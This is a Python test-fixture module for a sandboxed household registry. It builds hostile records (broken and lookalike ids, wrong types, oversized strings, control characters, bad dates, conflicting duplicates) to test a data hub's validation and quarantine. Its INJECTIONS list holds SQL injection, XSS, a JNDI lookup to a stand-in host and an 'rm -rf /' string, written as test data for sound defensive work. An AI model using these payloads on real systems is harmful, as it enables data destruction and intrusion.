"""Hostile registry records built from the sandbox's own valid households, and an agency that
serves exactly them.

`hostile_records` turns valid `sandbox.registry_data.RegistryData` households into records of
named categories (broken and lookalike ids, wrong types, nulls, 1 MB strings, control
characters, injection text, conflicting duplicates, implausible dates, coercion traps), each
with what the hub must do with it. `hostile_registry_app` is the sandbox's own registry read
route (auth, paging, cursors, faults) over a given list of records per kecamatan.
"""

from __future__ import annotations

import copy
import hashlib
import json
import random
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, Literal

from fastapi import FastAPI

from models.contracts.registry import HOUSEHOLDS, Household
from sandbox.config import RegistryDataConfig, SandboxConfig
from sandbox.errors import install_error_handlers
from sandbox.paging_api import add_page_route, agency_router
from sandbox.registry_data import Pages, Position, RegistryData
from sandbox.state import SandboxState

__all__ = [
    "CATEGORIES",
    "MB",
    "Hostile",
    "hostile_records",
    "hostile_registry_app",
    "payload_hash",
]

MB = 1024 * 1024

Expect = Literal["stored", "quarantined"]


@dataclass(frozen=True)
class Hostile:
    """One served record: its category, its partition, and what the hub must do with it."""

    category: str
    kecamatan: str
    record: Any
    expect: Expect
    # A reason code the quarantine must name (the code after "field:"), when one is certain.
    reason: str | None = None


def payload_hash(record: Any) -> str:
    """The quarantine's key of a record as the hub parses it (canonical JSON, SHA-256)."""
    parsed = json.loads(json.dumps(record, ensure_ascii=False))
    text = json.dumps(parsed, sort_keys=True, ensure_ascii=False, default=str)
    return hashlib.sha256(text.encode()).hexdigest()


Mutate = Callable[[dict[str, Any], int], tuple[Any, Expect, str | None]]

INJECTIONS: tuple[str, ...] = (
    "'; DROP TABLE household; --",
    "Robert'); DROP TABLE member;--",
    "1' OR '1'='1",
    '" OR ""="',
    "'); DELETE FROM quarantine WHERE '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>tebal</b> &amp; &lt;i&gt;",
    "**tebal** _miring_ ~~coret~~",
    "[klik](javascript:alert(1))",
    "| kolom | baris |",
    "`rm -rf /` ```kode```",
    "# Judul\\n- butir",
    "${jndi:ldap://x.test/a}",
    "{{7*7}} {% raw %}",
    "%00 %27 \\x00 \\u0000",
    "<!-- komentar --> ]]>",
    "Siti Aminah <siti@desa.test>",
)

# Zero-width and lookalike characters that survive a casual look.
_ZW = ("\u200b", "\u200c", "\u200d", "\ufeff", "\u2060")
_FULLWIDTH = str.maketrans("0123456789.", "０１２３４５６７８９．")
_ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
_CONTROLS = ("\x00", "\x01", "\x08", "\x0b", "\x1b", "\x1f", "\x7f", "\x85", "\x9f", "\n", "\t")


def _m0(h: dict[str, Any]) -> dict[str, Any]:
    member: dict[str, Any] = h["members"][0]
    return member


def _valid(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    return h, "stored", None


def _injection(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    text = INJECTIONS[j % len(INJECTIONS)]
    if j % 2:
        h["address"] = f"{text} RT 0{j % 9 + 1}"
    else:
        _m0(h)["name"] = text
    return h, "stored", None


def _broken_id(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    rid = h["id"]
    variants: list[Any] = [
        "",
        " ",
        f"{rid} ",
        rid.replace("-", " "),
        f"{rid}!",
        "x" * 65,
        rid[: len(rid) // 2] + "\u2026",
        f"{rid}/../x",
        f"{rid}\n",
        f"{rid};",
    ]
    where = j % 3
    value = variants[j % len(variants)]
    if where == 2:
        _m0(h)["id"] = value
    else:
        h["id"] = value
    return h, "quarantined", None


def _unicode(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    m = _m0(h)
    zw = _ZW[j % len(_ZW)]
    kind = j % 8
    if kind == 0:
        m["nik"] = m["nik"].translate(_FULLWIDTH)
    elif kind == 1:
        h["no_kk"] = h["no_kk"].translate(_ARABIC_INDIC)
    elif kind == 2:
        h["id"] = h["id"][:3] + zw + h["id"][3:]
    elif kind == 3:
        h["desa_code"] = h["desa_code"][:5] + zw + h["desa_code"][5:]
    elif kind == 4:
        h["desa_code"] = h["desa_code"].translate(_FULLWIDTH)
    elif kind == 5:
        m["nik"] = m["nik"][:8] + zw + m["nik"][8:]
    elif kind == 6:
        # Cyrillic "Н" looks like a Latin "H".
        h["id"] = "\u041d" + h["id"][1:]
    else:
        h["desa_code"] = h["desa_code"].translate(_ARABIC_INDIC)
    return h, "quarantined", None


def _wrong_type(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    kind = j % 12
    m = _m0(h)
    if kind == 0:
        h["desil"] = [3]
    elif kind == 1:
        h["desil"] = {"value": 3}
    elif kind == 2:
        h["members"] = {x["id"]: x for x in h["members"]}
    elif kind == 3:
        h["members"] = "Siti Aminah"
    elif kind == 4:
        m["name"] = 12345
    elif kind == 5:
        h["id"] = 123456
    elif kind == 6:
        h["address"] = ["Jl. Kenanga"]
    elif kind == 7:
        m["sex"] = 1
    elif kind == 8:
        h["updated_at"] = [h["updated_at"]]
    elif kind == 9:
        return f"{h['id']}", "quarantined", None  # a bare string where an object belongs
    elif kind == 10:
        return [h], "quarantined", None
    else:
        h["members"] = [[m]]
    return h, "quarantined", None


def _nulls(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    fields = ["id", "no_kk", "desa_code", "updated_at", "members", "address"]
    member_fields = ["id", "nik", "name", "sex", "birth_date", "relationship"]
    k = j % (len(fields) + len(member_fields) + 1)
    if k < len(fields):
        h[fields[k]] = None
    elif k < len(fields) + len(member_fields):
        _m0(h)[member_fields[k - len(fields)]] = None
    else:
        return None, "quarantined", None
    return h, "quarantined", None


def _huge(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    kind = j % 6
    big = ("A" if j % 2 else "é") * MB
    m = _m0(h)
    if kind == 0:
        m["name"] = big
    elif kind == 1:
        h["address"] = big
    elif kind == 2:
        h["id"] = "H" * MB
    elif kind == 3:
        h["desa_code"] = "3" * MB
    elif kind == 4:
        m["nik"] = "3" * MB
    else:
        m["relationship"] = big
    return h, "quarantined", None


def _control(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    c = _CONTROLS[j % len(_CONTROLS)]
    kind = (j // len(_CONTROLS)) % 6
    m = _m0(h)
    reason: str | None = None
    if kind == 0:
        m["name"] = m["name"][:3] + c + m["name"][3:]
        reason = "control_character"
    elif kind == 1:
        h["address"] = h["address"] + c
        reason = "control_character"
    elif kind == 2:
        h["id"] = h["id"] + c
    elif kind == 3:
        h["desa_code"] = h["desa_code"] + c
    elif kind == 4:
        # Tabs and line breaks in a NIK are a spreadsheet's layout, trimmed by the NIK rule.
        m["nik"] = m["nik"][:4] + ("\x00" if c in "\n\t" else c) + m["nik"][4:]
    else:
        m["relationship"] = m["relationship"] + c
    return h, "quarantined", reason


def _dates(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    now = datetime.now(UTC)
    m = _m0(h)
    births = [
        ("2099-01-01", "date_in_future"),
        ("1800-01-01", "date_too_early"),
        ("1899-12-31", "date_too_early"),
        ("0001-01-01", "date_too_early"),
        ("9999-12-31", "date_in_future"),
        ((now + timedelta(days=3)).date().isoformat(), "date_in_future"),
    ]
    times = [
        ("2099-01-01T00:00:00+07:00", "date_in_future"),
        ("1990-01-01T00:00:00+07:00", "date_too_early"),
        ("2010-12-31T23:59:59+07:00", "date_too_early"),
        ((now + timedelta(days=7)).isoformat(), "date_in_future"),
        ("1970-01-01T00:00:00Z", "date_too_early"),
    ]
    if j % 2:
        value, reason = births[(j // 2) % len(births)]
        m["birth_date"] = value
    else:
        value, reason = times[(j // 2) % len(times)]
        h["updated_at"] = value
    return h, "quarantined", reason


def _coercion(h: dict[str, Any], j: int) -> tuple[Any, Expect, str | None]:
    m = _m0(h)
    traps: list[tuple[Callable[[], None], str]] = [
        (lambda: h.__setitem__("desil", True), "int_type"),
        (lambda: h.__setitem__("desil", "7"), "int_type"),
        (lambda: h.__setitem__("desil", 7.0), "int_type"),
        (lambda: h.__setitem__("desil", False), "int_type"),
        (lambda: m.__setitem__("birth_date", 0), "date_type"),
        (lambda: m.__setitem__("birth_date", 19850314), "date_type"),
        (lambda: h.__setitem__("updated_at", 0), "datetime_type"),
        (lambda: h.__setitem__("updated_at", 1_700_000_000), "datetime_type"),
        (lambda: h.__setitem__("updated_at", "1700000000"), "datetime_format"),
        (lambda: m.__setitem__("nik", int(m["nik"])), "nik_invalid"),
        (lambda: m.__setitem__("sex", True), "literal_error"),
        (lambda: m.__setitem__("name", True), "string_type"),
    ]
    apply, reason = traps[j % len(traps)]
    apply()
    return h, "quarantined", reason


CATEGORIES: dict[str, Mutate] = {
    "valid": _valid,
    "injection text": _injection,
    "broken ids": _broken_id,
    "unicode-tricked ids/codes": _unicode,
    "wrong JSON types": _wrong_type,
    "nulls": _nulls,
    "1 MB strings": _huge,
    "control characters": _control,
    "future/ancient dates": _dates,
    "coercion traps": _coercion,
}
"""Each category's mutation of a valid household: (record, expected outcome, reason code)."""

DUPLICATES = "conflicting duplicates"


def _conflict_twin(h: dict[str, Any], j: int) -> dict[str, Any]:
    """Same id and updated_at as `h`, other content."""
    twin = copy.deepcopy(h)
    kind = j % 4
    if kind == 0:
        _m0(twin)["name"] = _m0(twin)["name"] + " Kedua"
    elif kind == 1:
        twin["address"] = twin["address"] + " (pindah)"
    elif kind == 2:
        twin["desil"] = (twin.get("desil") or 1) % 10 + 1
    else:
        twin["members"] = twin["members"][:1] if len(twin["members"]) > 1 else twin["members"]
        _m0(twin)["relationship"] = "lainnya" if _m0(twin)["relationship"] != "lainnya" else "anak"
    return twin


# 1 MB strings cost a megabyte each on the wire and in both quarantines: 55 are enough.
SIZES: Mapping[str, int] = {"1 MB strings": 55}


def hostile_records(
    per_category: int = 90, duplicates: int = 60, *, seed: int = 35, kecamatan: int = 6
) -> list[Hostile]:
    """Hostile records from valid sandbox households of a few kecamatan, in serving order.

    Each category gets `per_category` records (`SIZES` for a few); `duplicates` valid
    households are served twice, the second time with other content under the same id and
    updated_at (half right after the first, half at the end of their kecamatan's list), and
    a few exact repeats are served too. Serving order is shuffled within each kecamatan so
    categories mix on every page.
    """
    data = RegistryData(RegistryDataConfig(households=200_000, bad_rate=0.0, seed=seed))
    sizes = {c: SIZES.get(c, per_category) for c in CATEGORIES}
    need = sum(sizes.values()) + duplicates + duplicates // 5
    per_kec = need // kecamatan + 1
    bases: list[tuple[str, dict[str, Any]]] = []
    codes: list[str] = []
    # Kecamatan differ in size: take from each in turn until there are enough households.
    for code in sorted({data.kecamatan_of(i) for i in range(0, 200_000, 997)}):
        if len(bases) >= need:
            break
        codes.append(code)
        for n, index in enumerate(data.indices(code)):
            if n == per_kec or len(bases) >= need:
                break
            bases.append((code, data.household(index)))
    if len(bases) < need:
        raise ValueError(f"only {len(bases)} sandbox households for {need} hostile records")
    rnd = random.Random(seed)
    rnd.shuffle(bases)
    order: dict[str, list[Hostile]] = {code: [] for code in codes}
    tail: dict[str, list[Hostile]] = {code: [] for code in codes}
    it = iter(bases)
    for category, mutate in CATEGORIES.items():
        for j in range(sizes[category]):
            code, base = next(it)
            record, expect, reason = mutate(copy.deepcopy(base), j)
            order[code].append(Hostile(category, code, record, expect, reason))
    for group in order.values():
        rnd.shuffle(group)
    for j in range(duplicates):
        code, base = next(it)
        first = Hostile(DUPLICATES, code, base, "stored")
        twin = Hostile(
            DUPLICATES, code, _conflict_twin(base, j), "quarantined", "duplicate_conflict"
        )
        group = order[code]
        at = rnd.randrange(len(group) + 1)
        if j % 2:
            group[at:at] = [first, twin]  # on the same page
        else:
            group.insert(at, first)
            tail[code].append(twin)  # pages later
    for _ in range(duplicates // 5):
        code, base = next(it)
        # An exact repeat is the same record: stored once, never a conflict.
        group = order[code]
        at = rnd.randrange(len(group) + 1)
        group[at:at] = [Hostile(DUPLICATES, code, base, "stored")] * 2
    return [h for code in codes for h in order[code] + tail[code]]


def _pages(served: Mapping[str, Sequence[dict[str, Any]]]) -> Pages:
    """The sandbox's pager over fixed lists: every read serves each kecamatan's list whole,
    in order (`updated_since` is ignored: serving more than asked is allowed)."""
    codes = list(served)

    def seek(since: datetime | None) -> Position:
        return Position(0, 0, 0)

    def scan(start: Position, kecamatan: str | None) -> Iterable[tuple[Position, dict[str, Any]]]:
        for segment, code in enumerate(codes):
            if kecamatan is not None and code != kecamatan:
                continue
            if segment < start.segment:
                continue
            first = start.index if segment == start.segment else 0
            for i in range(first, len(served[code])):
                yield Position(segment, i, 0), served[code][i]

    return Pages(seek, scan)


def hostile_registry_app(records: Sequence[Hostile]) -> FastAPI:
    """The sandbox registry's households route serving exactly `records` per kecamatan."""
    served: dict[str, list[Any]] = {}
    for h in records:
        served.setdefault(h.kecamatan, []).append(h.record)
    state = SandboxState(SandboxConfig(registry=RegistryDataConfig(households=10)))
    router = agency_router(state, "registry")
    add_page_route(
        router,
        state,
        "registry",
        HOUSEHOLDS,
        _pages(served),
        Household,
        name=HOUSEHOLDS,
        summary="Hostile households",
        description="Fixed hostile households, in the order given.",
        page_of=HOUSEHOLDS,
    )
    app = FastAPI()
    app.state.sandbox = state
    install_error_handlers(app)
    app.include_router(router, prefix="/registry")
    return app
